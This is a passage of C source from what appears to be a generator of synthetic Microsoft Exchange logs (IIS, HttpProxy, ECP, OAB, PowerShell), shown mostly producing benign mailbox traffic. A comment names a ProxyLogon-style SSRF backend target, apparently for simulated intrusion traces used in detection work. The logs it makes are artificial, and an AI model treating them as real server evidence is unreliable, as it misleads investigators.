	q->rid_lo = rnext(r);
	q->aux = rnext(r);
	q->hp_user = q->authtype = q->anchor = q->rhint = q->action = q->errcode = q->generr = q->creqid = S0;
	q->rtype = SL("IntraForest");
	q->target = SL(HOST_FQDN);
	q->cookie_srv = S0;
	q->dbguid = S0;
	q->isauth = false;
	q->be_status = 0;
	q->ecp_cmd = q->ecp_url = S0;
}

/* Build a Str in a Req buffer from pieces. */
static Str bcat(char *buf, size_t cap, int n, const Str *parts)
{
	size_t len = 0;
	for (int i = 0; i < n; i++) {
		size_t k = parts[i].n;
		if (len + k >= cap)
			k = cap - 1 - len;
		memcpy(buf + len, parts[i].s, k);
		len += k;
	}
	buf[len] = 0;
	return (Str){buf, len};
}
#define BCAT(buf, ...) bcat((buf), sizeof(buf), (int)(sizeof((Str[]){__VA_ARGS__}) / sizeof(Str)), (Str[]){__VA_ARGS__})

static const char IIS_FIELDS_STD[] = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
                                     "cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus "
                                     "sc-win32-status time-taken";
static const char IIS_FIELDS_EXT[] = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
                                     "cs-username c-ip cs(User-Agent) cs(Referer) cs-host sc-status "
                                     "sc-substatus sc-win32-status sc-bytes cs-bytes time-taken";

static void iis_header(Out *o, int64_t t, int fields)
{
	out_hline(o, SL("#Software: Microsoft Internet Information Services 10.0"), t);
	out_hline(o, SL("#Version: 1.0"), t);
	char *p = ob(o);
	p = PL(p, "#Date: ");
	p = p_iisdt(p, t);
	p = PL(p, "\r\n");
	oe(o, p, false, t);
	if (fields)
		out_hline(o, SL(IIS_FIELDS_EXT), t);
	else
		out_hline(o, SL(IIS_FIELDS_STD), t);
}

static Out *iis_out(bool backend, int64_t t)
{
	Out *o = backend ? &G.o_iis2 : &G.o_iis1;
	if (!o->f) {
		char name[16], path[160];
		fmt_compact(name, sizeof name, G.day, true);
		snprintf(path, sizeof path, "C/inetpub/logs/LogFiles/W3SVC%d/u_ex%s.log", backend ? 2 : 1, name);
		out_open(o, path, backend ? K_IIS2 : K_IIS1);
		iis_header(o, t - t % 1000, backend ? 0 : G.iis1_fields);
	}
	return o;
}

/* One IIS W3C line (front end or back end, the 401 challenge or the final answer). */
static void write_iis(const Req *q, bool be, bool chal)
{
	int64_t t = chal ? q->t_chal : q->t;
	Out *o = iis_out(be, t);
	int ext = be ? 0 : G.iis1_fields;
	char *p = ob(o);
	p = p_iisdt(p, t);
	*p++ = ' ';
	p = be ? PL(p, SRV_IP) : ps(p, q->sip);
	*p++ = ' ';
	p = pz(p, q->method);
	*p++ = ' ';
	p = ps(p, be && q->be_stem.n ? q->be_stem : q->stem);
	*p++ = ' ';
	if (q->proxied) {
		p = ps(p, q->query);
		p = PL(p, "&CorrelationID=<empty>;&cafeReqId=");
		/* the 401 challenge is its own request, with the id its HttpProxy line has */
		p = chal ? pguid(p, q->rid_lo, q->rid_hi) : pguid(p, q->rid_hi, q->rid_lo);
		*p++ = ';';
	} else if (q->query.n) {
		p = ps(p, q->query);
	} else {
		*p++ = '-';
	}
	*p++ = ' ';
	p = be ? PL(p, "444") : pu(p, (uint64_t)q->port);
	*p++ = ' ';
	Str user = chal ? S0 : (be ? q->be_user : q->iis_user);
	p = user.n ? ps(p, user) : PL(p, "-");
	*p++ = ' ';
	p = be ? PL(p, SRV_IP) : ps(p, q->cip);
	*p++ = ' ';
	p = ps(p, UA_IIS[q->ua]);
	*p++ = ' ';
	p = q->referer.n && !be ? ps(p, q->referer) : PL(p, "-");
	*p++ = ' ';
	if (ext) {
		p = ps(p, q->host);
		*p++ = ' ';
	}
	if (chal) {
		p = PL(p, "401 1 2148074254");
	} else {
		p = pu(p, (uint64_t)q->status);
		*p++ = ' ';
		p = pu(p, (uint64_t)q->substatus);
		*p++ = ' ';
		p = pu(p, q->win32);
	}
	*p++ = ' ';
	if (ext) {
		p = pu(p, chal ? 341 + (q->aux & 63) : q->resp_bytes);
		*p++ = ' ';
		p = pu(p, q->req_bytes);
		*p++ = ' ';
	}
	p = pu(p, chal ? q->chal_tt : (be ? q->tt - q->tt / 8 : q->tt));
	p = PL(p, "\r\n");
	oe(o, p, true, t);
}

/* HttpProxy: 74 comma separated fields. */
static const char HP_FIELDS[] =
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
    "Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,"
    "Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,"
    "ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
    "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
    "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,"
    "CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,"
    "TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,"
    "SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,"
    "ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,"
    "BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,"
    "BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
    "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,"
    "CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,"
    "BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,"
    "PartitionEndpointLookupLatency,RoutingStatus";
#define HP_NF 74

static const char BOM[] = "\xEF\xBB\xBF";

/* One "#Name: value" header line. */
static void xlog_directive(Out *o, int64_t t, const char *name, Str value)
{
	char *p = ob(o);
	p = pz(p, name);
	p = ps(p, value);
	p = PL(p, "\r\n");
	oe(o, p, false, t);
}

/* Exchange log header (HttpProxy, ECP, Rps, OAB share the shape). */
static void xlog_header(Out *o, int64_t t, const char *version, const char *logtype, Str fields)
{
	char date[32];
	char *end = p_iso(date, t);

	out_raw(o, BOM, 3);
	out_hline(o, SL("#Software: Microsoft Exchange Server"), t);
	xlog_directive(o, t, "#Version: ", (Str){version, strlen(version)});
	xlog_directive(o, t, "#Log-type: ", (Str){logtype, strlen(logtype)});
	xlog_directive(o, t, "#Date: ", (Str){date, (size_t)(end - date)});
	xlog_directive(o, t, "#Fields: ", fields);
}

static const char *ver_dotted(void) { return G.patched ? "15.01.2176.009" : "15.01.2176.002"; }

static void hour_name(char *dst, size_t cap, int64_t hour_start)
{
	char d[16];
	fmt_compact(d, sizeof d, hour_start / MS_DAY, false);
	snprintf(dst, cap, "%s%02d", d, (int)((hour_start % MS_DAY) / MS_HOUR));
}

static Out *hp_out(int proto, int64_t t)
{
	Out *o = &G.o_hp[proto];
	if (!o->f) {
		char h[24], path[256];
		hour_name(h, sizeof h, G.hour_start);
		snprintf(path, sizeof path, XROOT "Logging/HttpProxy/%s/HttpProxy_%s-%d.LOG", PROTO_NAME[proto], h,
		         G.hp_gen);
		out_open(o, path, K_HP);
		xlog_header(o, t, ver_dotted(), "HttpProxy Logs", SL(HP_FIELDS));
	}
	return o;
}

/* Small arena for numbers and composed values within one line. */
typedef struct {
	char *p;
} Arena;
static Str a_u(Arena *a, uint64_t v)
{
	char *s = a->p;
	a->p = pu(s, v);
	return (Str){s, (size_t)(a->p - s)};
}
static Str a_iso(Arena *a, int64_t t)
{
	char *s = a->p;
	a->p = p_iso(s, t);
	return (Str){s, (size_t)(a->p - s)};
}

static void write_hp(const Req *q, bool chal)
{
	int64_t t = chal ? q->t_chal : q->t;
	Out *o = hp_out(q->proto, t);
	char arena[4096];
	Arena a = {arena};
	Str v[HP_NF];
	for (int i = 0; i < HP_NF; i++)
		v[i] = S0;
	uint64_t x = q->aux;
	uint32_t total = chal ? q->chal_tt : q->tt;
	v[0] = a_iso(&a, t);
	{
		char *s = a.p;
		a.p = pguid(s, chal ? q->rid_lo : q->rid_hi, chal ? q->rid_hi : q->rid_lo);
		v[1] = (Str){s, (size_t)(a.p - s)};
	}
	v[2] = SL("15");
	v[3] = SL("1");
	v[4] = SL("2176");
	v[5] = G.patched ? SL("9") : SL("2");
	v[6] = q->creqid;
	v[7] = sz(PROTO_NAME[q->proto]);
	v[8] = q->host;
	v[9] = q->stem;
	v[10] = q->action;
	v[16] = UA_HP[q->ua];
	v[17] = q->cip;
	v[18] = SL("EXCH01");
	v[22] = sz(q->method);
	v[31] = a_u(&a, q->req_bytes);
	if (chal) {
		v[11] = S0;
		v[12] = SL("false");
		v[19] = SL("401");
		v[32] = a_u(&a, 341 + (x & 63));
		v[35] = SL("0");
	} else {
		v[11] = q->authtype;
		v[12] = q->isauth ? SL("true") : SL("false");
		v[13] = q->hp_user;
		v[15] = q->anchor;
		v[19] = a_u(&a, (uint64_t)q->status);
		if (q->be_status)
			v[20] = a_u(&a, (uint64_t)q->be_status);
		v[21] = q->errcode;
		v[23] = SL("Proxy");
		v[24] = q->target;
		/* no version for an unknown back end (the SSRF target "a]@...") */
		v[25] = q->target.n && q->target.s[0] != 'a' ? sz(ver_dotted()) : S0;
		v[26] = q->rtype;
		v[27] = q->rhint;
		if (q->cookie_srv.n) {
			char *s = a.p;
			a.p = PL(a.p, "Server~");
			a.p = ps(a.p, q->cookie_srv);
			*a.p++ = '~';
			a.p = pu(a.p, 1941962752 + (x >> 40) % 200000);
			*a.p++ = '~';
			a.p = p_iso(a.p, t + 600000) - 5; /* second precision, no "Z" */
			v[28] = (Str){s, (size_t)(a.p - s)};
		}
		v[32] = a_u(&a, q->resp_bytes);
		v[33] = a_u(&a, (x >> 8) & 3);
		v[35] = a_u(&a, (x >> 12) & 1);
	}
	/* Latency breakdown consistent with the total time. */
	uint32_t be = chal ? 0 : total - total / 6 - ((x >> 16) & 1);
	if (be > total)
		be = 0;
	uint32_t core = total - be;
	static const Str zero = {"0", 1};
	v[36] = chal ? zero : a_u(&a, (x >> 18) & 1);
	v[38] = zero;
	v[40] = zero;
	v[42] = zero;
	v[43] = chal ? zero : a_u(&a, (x >> 20) & 3);
	v[45] = zero;
	v[46] = a_u(&a, total);
	v[47] = zero;
	v[48] = zero;
	v[49] = chal ? zero : a_u(&a, (x >> 22) & 1);
	v[50] = zero;
	v[51] = a_u(&a, be);
	v[52] = zero;
	v[53] = zero;
	v[54] = chal ? zero : a_u(&a, (x >> 24) & 1);
	v[55] = zero;
	v[56] = zero;
	v[57] = a_u(&a, total);
	v[58] = zero;
	v[59] = chal ? zero : a_u(&a, be + 1);
	v[60] = a_u(&a, core);
	v[61] = chal ? zero : a_u(&a, (x >> 26) & 3);
	v[62] = a_u(&a, core);
	v[63] = a_u(&a, total);
	if (q->query.n) {
		char *s = a.p;
		*a.p++ = '?';
		a.p = ps(a.p, q->query);
		v[65] = (Str){s, (size_t)(a.p - s)};
	}
	{
		char *s = a.p;
		a.p = PL(a.p, "BeginRequest=");
		a.p = p_iso(a.p, t - total);
		a.p = PL(a.p, ";CorrelationID=<empty>;");
		if (chal) {
			a.p = PL(a.p, "NoAuthenticatedUser=True;ProxyState-Run=None;");
		} else {
			a.p = PL(a.p, "ProxyState-Run=None;ProxyState-Complete=ProxyResponseData;");
		}
		a.p = PL(a.p, "SharedCacheGuard=0;EndRequest=");
		a.p = p_iso(a.p, t);
		*a.p++ = ';';
		v[67] = (Str){s, (size_t)(a.p - s)};
	}
	if (!chal) {
		v[68] = q->generr;
		v[70] = q->dbguid;
	}
	v[73] = SL("CafeV1");
	char *p = ob(o);
	p = csv_join(p, v, HP_NF);
	p = PL(p, "\r\n");
	oe(o, p, true, t);
}

/* ECP Server log --------------------------------------------------------- */

static Out *ecp_out(int64_t t)
{
	Out *o = &G.o_ecp;
	if (!o->f) {
		char d[16], path[200];
		fmt_compact(d, sizeof d, G.day, false);
		snprintf(path, sizeof path, XROOT "Logging/ECP/Server/ECPServer%s-1.LOG", d);
		out_open(o, path, K_ECP);
		xlog_header(o, t, "15.00.0000.000", "ECP Server Log", SL("TimeStamp,ServerName,EventId,EventData"));
	}
	return o;
}

/* One "S:KEY=value" item; wrapped in single quotes (inner ones doubled) when
 * the value holds characters that would confuse the ';'-separated list. */
static char *ecp_item(char *p, const char *key, Str val)
{
	bool wrap = false;
	for (size_t i = 0; i < val.n; i++) {
		char c = val.s[i];
		if (c == '\'' || c == ';' || c == ',' || c == '"' || c == '<' || c == '>' || c == ' ') {
			wrap = true;
			break;
		}
	}
	if (wrap)
		*p++ = '\'';
	p = PL(p, "S:");
	p = pz(p, key);
	*p++ = '=';
	if (!wrap)
		return ps(p, val);
	for (size_t i = 0; i < val.n; i++) {
		if (val.s[i] == '\'')
			*p++ = '\'';
		*p++ = val.s[i];
	}
	*p++ = '\'';
	return p;
}

static void write_ecp(const Req *q)
{
	Out *o = ecp_out(q->t);
	char ed[4096], g1[40], g2[40], g3[40];
	uint64_t x = q->aux;
	*pguid(g1, x, q->rid_hi) = 0;
	*pguid(g2, q->rid_lo, x) = 0;
	*pguid(g3, q->rid_hi ^ x, q->rid_lo ^ x) = 0;
	char num[24];
	Str tm = {num, (size_t)(pu(num, q->tt > 3 ? q->tt - 2 : q->tt) - num)};
	char *e = ed;
	e = ecp_item(e, "TIME", tm);
	*e++ = ';';
	e = ecp_item(e, "SID", sz(g1));
	*e++ = ';';
	e = ecp_item(e, "CMD", q->ecp_cmd);
	*e++ = ';';
	e = ecp_item(e, "REQID", S0);
	*e++ = ';';
	e = ecp_item(e, "URL", q->ecp_url);
	*e++ = ';';
	e = ecp_item(e, "REFERRER", q->referer);
	*e++ = ';';
	e = ecp_item(e, "EX", S0);
	*e++ = ';';
	e = ecp_item(e, "ACTID", sz(g2));
	*e++ = ';';
	e = ecp_item(e, "RS", SL("0"));
	*e++ = ';';
	e = ecp_item(e, "BLD", G.patched ? SL("15.1.2176.9") : SL("15.1.2176.2"));
	e = PL(e, ";S:TNAME=<null>;S:TID=;S:USID=");
	e = pz(e, g3);
	e = PL(e, ";S:EDOID=;S:ACID=");
	char *p = ob(o);
	p = p_iso(p, q->t);
	p = PL(p, ",EXCH01,ECP.Request,");
	p = csv_field(p, (Str){ed, (size_t)(e - ed)});
	p = PL(p, "\r\n");
	oe(o, p, true, q->t);
}

/* OAB generator log ------------------------------------------------------ */

static Out *oab_out(int64_t t)
{
	Out *o = &G.o_oab;
	if (!o->f) {
		char d[16], path[200];
		fmt_compact(d, sizeof d, G.day, false);
		snprintf(path, sizeof path, XROOT "Logging/OABGeneratorLog/OABGeneratorLog_%s-1.LOG", d);
		out_open(o, path, K_OAB);
		xlog_header(o, t, ver_dotted(), "OAB Generator Log", SL("DateTime,Component,Level,Message"));
	}
	return o;
}
static void write_oab(int64_t t, const char *level, Str msg)
{
	Out *o = oab_out(t);
	char *p = ob(o);
	p = p_iso(p, t);
	p = PL(p, ",OABGenerator,");
	p = pz(p, level);
	*p++ = ',';
	p = csv_field(p, msg);
	p = PL(p, "\r\n");
	oe(o, p, true, t);
}

/* Remote PowerShell cmdlet log ------------------------------------------- */

static const char *const RPS_FIELDS[] = {
    "DateTime", "StartTime", "RequestId", "ClientRequestId", "MajorVersion", "MinorVersion",
    "BuildVersion", "RevisionVersion", "ServerHostName", "ProcessId", "ProcessName", "ThreadId",
    "CultureInfo", "Organization", "AuthenticatedUser", "ExecutingUserSid", "EffectiveOrganization",
    "UserServicePlan", "IsAdmin", "ClientApplication", "Cmdlet", "Parameters", "CmdletUniqueId",
    "UserBudgetOnStart", "ContributeToFailFast", "RunspaceSettingsCreationHint", "ADViewEntireForest",
    "ADRecipientViewRoot", "ADConfigurationDomainControllers", "ADPreferredGlobalCatalogs",
    "ADPreferredDomainControllers", "ThrottlingInfo", "DelayInfo", "ThrottlingDelay",
    "IsOutputObjectRedacted", "CmdletProxyStage", "CmdletProxyRemoteServer", "ProxiedObjectCount",
    "CmdletProxyLatency", "ExecutionResult", "Error", "ExecutionTime", "ActivityContextLifeTime",
    "BeginProcessing", "ProcessRecord", "EndProcessing", "StopProcessing", "BizLogic",
    "PowerShellLatency", "UserInteractionLatency", "ParameterBinding", "ActiveRunspaces",
    "GenericLatency", "GenericInfo", "GenericErrors", "NonPiiParameters"};
#define RPS_NF ((int)(sizeof RPS_FIELDS / sizeof RPS_FIELDS[0]))
static char RPS_FIELDS_LINE[2048];

static Out *rps_out(int64_t t)
{
	Out *o = &G.o_rps;
	if (!o->f) {
		char h[24], path[256];
		hour_name(h, sizeof h, G.hour_start);
		snprintf(path, sizeof path, XROOT "Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_%s-%d.LOG", h,
		         G.hp_gen);
		out_open(o, path, K_RPS);
		xlog_header(o, t, ver_dotted(), "Rps Cmdlet Logs", sz(RPS_FIELDS_LINE));
	}
	return o;
}

typedef struct {
	const char *cmdlet, *params, *nonpii;
} RpsCmd;

static void write_rps(int64_t t, Rng *r, const RpsCmd *c, Str user, Str sid, const char *app)
{
	Out *o = rps_out(t);
	char arena[2048];
	Arena a = {arena};
	Str v[RPS_NF];
	for (int i = 0; i < RPS_NF; i++)
		v[i] = S0;
	uint32_t exec = rrange(r, 8, 240);
	v[0] = a_iso(&a, t);
	v[1] = a_iso(&a, t - exec);
	{
		char *s = a.p;
		uint64_t g1 = rnext(r);
		uint64_t g2 = rnext(r);
		a.p = pguid(s, g1, g2);
		v[2] = (Str){s, (size_t)(a.p - s)};
	}
	v[4] = SL("15");
	v[5] = SL("1");
	v[6] = SL("2176");
	v[7] = G.patched ? SL("9") : SL("2");
	v[8] = SL("EXCH01");
	v[9] = a_u(&a, 7212 + (uint64_t)(G.day % 97) * 4);
	v[10] = SL("w3wp");
	v[11] = a_u(&a, rrange(r, 14, 180));
	v[12] = SL("en-US");
	v[14] = user;
	v[15] = sid;
	v[18] = SL("False");
	v[19] = sz(app);
	v[20] = sz(c->cmdlet);
	v[21] = sz(c->params);
	{
		char *s = a.p;
		uint64_t g1 = rnext(r);
		uint64_t g2 = rnext(r);
		a.p = pguid(s, g1, g2);
		v[22] = (Str){s, (size_t)(a.p - s)};
	}
	v[23] = sz(RPS_UBUDGET);
	v[24] = SL("False");
	v[26] = SL("False");
	v[27] = SL("contoso.local");
	v[28] = SL("DC01.contoso.local");
	v[29] = SL("DC01.contoso.local");
	v[30] = SL("{ DC01.contoso.local }");
	v[33] = SL("0");
	v[34] = SL("False");
	v[39] = SL("Success");
	v[41] = a_u(&a, exec);
	v[42] = a_u(&a, exec + 1);
	v[43] = a_u(&a, exec / 5);
	v[44] = a_u(&a, exec - exec / 5 - 1);
	v[45] = SL("0");
	v[48] = a_u(&a, exec / 3);
	v[50] = SL("0");
	v[51] = SL("1");
	v[55] = sz(c->nonpii);
	char *p = ob(o);
	p = csv_join(p, v, RPS_NF);
	p = PL(p, "\r\n");
	oe(o, p, true, t);
}

/* Write a request to every log that records it, in the order it happens. */
static void emit_req(Req *q)
{
	if (q->chal) {
		q->t_chal = q->t - q->tt - 1 - (int64_t)(q->aux % 7);
		if (q->t_chal < G.last_t)
			q->t_chal = G.last_t;
		if (q->t_chal > q->t)
			q->t_chal = q->t;
		q->chal_tt = (uint32_t)(q->aux >> 60);
	}
	if (G.want_iis) {
		if (q->chal)
			write_iis(q, false, true);
		write_iis(q, false, false);
		if (q->backend && q->proxied)
			write_iis(q, true, false);
	}
	if (G.want_hp && q->proxied) {
		if (q->chal)
			write_hp(q, true);
		write_hp(q, false);
	}
	if (G.want_misc && q->ecp)
		write_ecp(q);
	G.last_t = q->t;
}

/* ------------------------------------------------------------------------ */
/* Benign traffic                                                            */
/* ------------------------------------------------------------------------ */

/* Human traffic comes in sessions: one user, one client, a burst of requests
 * a few seconds apart (an OWA logon flow, Outlook's MAPI Connect/Execute runs,
 * an EWS sync).  Session types with their share (per mille) and length range. */
enum {
	T_MAPI,
	T_NSPI,
	T_EWS,
	T_OWA,
	T_EAS,
	T_AUTOD,
	T_OAB,
	T_ECP_USER,
	T_ECP_ADMIN,
	T_RPC,
	T_PS_ADMIN,
	T_NHUMAN
};
static const struct {
	uint16_t weight, len_lo, len_hi;
	uint32_t gap_lo, gap_hi; /* ms between requests of a session */
} SESS[T_NHUMAN] = {
    [T_MAPI] = {280, 2, 8, 150, 30000},     [T_NSPI] = {30, 1, 2, 100, 2000},
    [T_EWS] = {140, 1, 5, 400, 20000},      [T_OWA] = {120, 3, 10, 100, 8000},
    [T_EAS] = {180, 1, 3, 1000, 60000},     [T_AUTOD] = {80, 1, 2, 200, 3000},
    [T_OAB] = {40, 1, 2, 100, 1500},        [T_ECP_USER] = {20, 1, 3, 1000, 15000},
    [T_ECP_ADMIN] = {10, 1, 4, 2000, 30000}, [T_RPC] = {10, 2, 2, 5, 60},
    [T_PS_ADMIN] = {5, 1, 3, 3000, 40000},
};
static uint32_t HUMAN_CUM[T_NHUMAN];
static uint64_t MEAN_SESS_MILLI = 3500; /* mean session length x 1000, set at start-up */

/* Relative traffic per UTC hour (per mille of the busiest hour). */
static const uint16_t CURVE[24] = {40, 30, 25, 25, 30, 60, 180, 480, 850, 1000, 960, 900,
                                   800, 900, 950, 900, 760, 520, 320, 200, 150, 110, 80, 55};

static const char *const EWS_ACTIONS[] = {"GetItem", "FindItem", "SyncFolderItems", "GetFolder",
                                          "GetUserAvailability", "GetUserOofSettings", "Subscribe",
                                          "GetStreamingEvents", "FindFolder", "CreateItem"};
static const char *const OWA_ACTIONS[] = {"GetFolder", "FindItem", "GetItem", "FindConversation",
                                          "GetConversationItems", "GetOwaUserConfiguration",
                                          "UpdateItem", "GetCalendarView", "CreateItem", "FindPeople"};
static const char *const OWA_STATIC[] = {"scripts/boot.worker.min.js", "scripts/preboot.js",
                                         "scripts/boot.0.mouse.js", "resources/styles/0/boot.worker.css",
                                         "resources/images/0/sprite1.mouse.png",
                                         "resources/images/0/sprite1.mouse.css", "resources/wavs/Glass.mp3"};
static const char *const EAS_CMDS[] = {"Sync", "Sync", "Sync", "Ping", "Ping", "FolderSync", "SendMail",
                                       "ItemOperations", "Sync", "Ping"};
static const char *const ECP_ADMIN_CMDS[] = {
    "Get-Recipient.ResultSize='500'.RecipientTypeDetails='UserMailbox,SharedMailbox,RoomMailbox'",
    "Get-Mailbox.ResultSize='500'.SortBy='DisplayName'",
    "Get-MessageTrace",
    "Get-ExchangeServer",
    "Get-Recipient.Filter='(RecipientType -eq \"UserMailbox\")'.ResultSize='500'"};

/* An ECP canary: 75 base64url characters and a dot. */
static char *canary(char *p, Rng *r)
{
	static const char B64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	for (int i = 0; i < 75; i++)
		*p++ = B64[rbelow(r, 64)];
	*p++ = '.';
	return p;
}

static int pick_user(Rng *r)
{
	/* A few heavy users and a long tail. */
	if (rbelow(r, 100) < 30)
		return 1 + (int)rbelow(r, 5);
	return (int)rbelow(r, NUSERS);
}

static void set_user_auth(Req *q, const User *u, bool upn)
{
	q->iis_user = upn ? sz(u->upn) : sz(u->dom);
	q->hp_user = q->iis_user;
	q->isauth = true;
}

/* Session-level facts shared by all its requests. */
typedef struct {
	uint64_t seed;
	uint16_t type, user, len;
	bool bg, flag; /* flag: OWA session starts with a logon / from home */
} Sess;

/* One request of a human session: seq is its position in the session. */
static void gen_human(Req *q, Rng *r, const Sess *s, unsigned seq)
{
	const User *u = &USERS[s->user];
	int type = s->type;
	bool first = seq == 0;
	char tmp[160];
	q->cip = sz(u->ip);
	switch (type) {
	case T_MAPI:
	case T_NSPI:
		q->method = "POST";
		q->stem = type == T_MAPI ? SL("/mapi/emsmdb/") : SL("/mapi/nspi/");
		q->query = BCAT(q->b_query, SL("MailboxId="), sz(u->mbx), SL("@contoso.com"));
		q->proxied = true;
		q->proto = P_MAPI;
		q->ua = UA_OUTLOOK;
		set_user_auth(q, u, false);
		q->chal = first && rpm(r, 450);
		q->action = type == T_NSPI ? SL("Bind") : first ? SL("Connect") : SL("Execute");
		/* NotificationWait requests hang until something happens. */
		q->tt = !first && type == T_MAPI && rpm(r, 120) ? rrange(r, 1000, 60000) : rrange(r, 8, 450);
		q->backend = rpm(r, 350);
		q->be_user = SL("CONTOSO\\EXCH01$");
		q->authtype = SL("Negotiate");
		q->anchor = BCAT(q->b_anchor, SL("MailboxGuidWithDomain~"), sz(u->mbx), SL("@contoso.com"));
		q->rhint = SL("MailboxGuidWithDomain-MailboxIdParameter");
		q->cookie_srv = SL(HOST_FQDN);
		q->dbguid = sz(DB_GUID);
		{
			char *c = tmp;
			*c++ = '{';
			c = pguid_a(c, s->seed, s->seed * 31 + 7, HEXU); /* stable per Outlook session */
			*c++ = '}';
			*c++ = ':';
			c = pu(c, 1 + (s->seed >> 56) + seq);
			q->creqid = BCAT(q->b_creq, (Str){tmp, (size_t)(c - tmp)});
		}
		q->req_bytes = rrange(r, 300, 9000);
		q->resp_bytes = rrange(r, 150, 48000);
		break;
	case T_EWS:
		q->method = "POST";
		q->stem = SL("/EWS/Exchange.asmx");
		q->proxied = true;
		q->proto = P_EWS;
		q->ua = u->ews_ua;
		set_user_auth(q, u, u->ews_ua == UA_MACMAIL || u->ews_ua == UA_ACCOUNTSD);
		q->tt = rrange(r, 12, 700);
		{
			const char *act = PICK(r, EWS_ACTIONS);
			q->action = sz(act);
			if (!strcmp(act, "GetStreamingEvents"))
				q->tt = rrange(r, 30000, 1800000); /* streaming subscriptions hang */
		}
		q->chal = first && (q->ua == UA_OUTLOOK || q->ua == UA_EWSCLIENT) && rpm(r, 500);
		q->backend = rpm(r, 350);
		q->be_user = SL("CONTOSO\\EXCH01$");
		q->authtype = q->ua == UA_OUTLOOK || q->ua == UA_EWSCLIENT ? SL("Negotiate") : SL("Basic");
		q->anchor = BCAT(q->b_anchor, SL("Sid~"), sz(u->sid));
		q->rhint = SL("Sid-Sid");
		q->cookie_srv = SL(HOST_FQDN);
		q->req_bytes = rrange(r, 600, 5000);
		q->resp_bytes = rrange(r, 400, 60000);
		if (rpm(r, 6)) { /* rare failure whose error text needs CSV quoting */
			q->status = 500;
			q->be_status = 500;
			q->generr = SL("[EWS] ErrorMailboxStoreUnavailable: Mailbox \"database\" busy, retry later");
		}
		break;
	case T_OWA: {
		/* A logon session walks the forms-based logon first; then the
		 * single-page app loads static files and calls service.svc. */
		unsigned step = s->flag ? seq : 4 + seq;
		q->ua = u->browser;
		if (u->owa_home && (s->seed & 1))
			q->cip = sz(u->home);
		q->tt = rrange(r, 5, 60);
		if (step == 0) {
			q->stem = SL("/owa/");
			q->status = 302;
			q->resp_bytes = 450;
			break;
		}
		if (step == 1) {
			q->stem = SL("/owa/auth/logon.aspx");
			q->query = SL("url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0");
			q->resp_bytes = rrange(r, 9000, 12000);
			break;
		}
		if (step == 2) {
			q->method = "POST";
			q->stem = SL("/owa/auth.owa");
			q->iis_user = sz(u->dom);
			q->referer = SL("https://" HOST_PUB "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0");
			q->status = 302;
			q->tt = rrange(r, 20, 300);
			q->resp_bytes = 900;
			break;
		}
		q->referer = SL("https://" HOST_PUB "/owa/");
		if (step >= 4 && rpm(r, 300)) { /* static resources come from the front end */
			char *c = tmp;
			c = PL(c, "/owa/prem/");
			c = G.patched ? PL(c, "15.1.2176.9/") : PL(c, "15.1.2176.2/");
			c = pz(c, PICK(r, OWA_STATIC));
			q->stem = BCAT(q->b_stem, (Str){tmp, (size_t)(c - tmp)});
			q->iis_user = sz(u->dom);
			if (rpm(r, 400)) {
				q->status = 304;
				q->resp_bytes = 200;
			} else {
				q->resp_bytes = rrange(r, 2000, 400000);
			}
			q->tt = rrange(r, 0, 30);
			break;
		}
		bool svc = step >= 4;
		q->method = svc ? "POST" : "GET";
		q->stem = svc ? SL("/owa/service.svc") : SL("/owa/");
		if (svc) {
			const char *act = PICK(r, OWA_ACTIONS);
			char *c = tmp;
			c = PL(c, "action=");
			c = pz(c, act);
			c = PL(c, "&EP=1&ID=-");
			c = pu(c, rrange(r, 1, 90));
			c = PL(c, "&AC=1");
			q->query = BCAT(q->b_query, (Str){tmp, (size_t)(c - tmp)});
			q->action = sz(act);
			char *b = q->b_creq;
			b = phex(b, s->seed, 16, HEXU);
			b = phex(b, q->rid_lo, 16, HEXU);
			*b++ = '_';
			b = pu(b, (uint64_t)(q->t - 40 - (int64_t)(q->aux % 900)));
			*b = 0;
			q->creqid = (Str){q->b_creq, (size_t)(b - q->b_creq)};
		}
		q->proxied = true;
		q->proto = P_OWA;
		set_user_auth(q, u, false);
		q->hp_user = sz(u->upn);
		q->authtype = SL("Negotiate");
		q->anchor = BCAT(q->b_anchor, SL("Sid~"), sz(u->sid));
		q->rhint = SL("Sid-OwaCookie");
		q->cookie_srv = SL(HOST_FQDN);
		q->tt = rrange(r, 15, 900);
		q->backend = rpm(r, 200);
		q->be_user = q->iis_user;
		q->req_bytes = rrange(r, 500, 3000);
		q->resp_bytes = rrange(r, 300, 90000);
		if (svc && rpm(r, 8)) { /* rare OWA error, message with a comma */
			q->status = 500;
			q->be_status = 500;
			q->generr = SL("Exception=ObjectNotFoundException;Message=The specified object was not found "
			               "in the store., The process failed to get the correct properties.");
		}
		break;
	}
	case T_EAS: {
		const char *cmd = first && rpm(r, 300) ? "FolderSync" : PICK(r, EAS_CMDS);
		char *c = tmp;
		q->method = "POST";
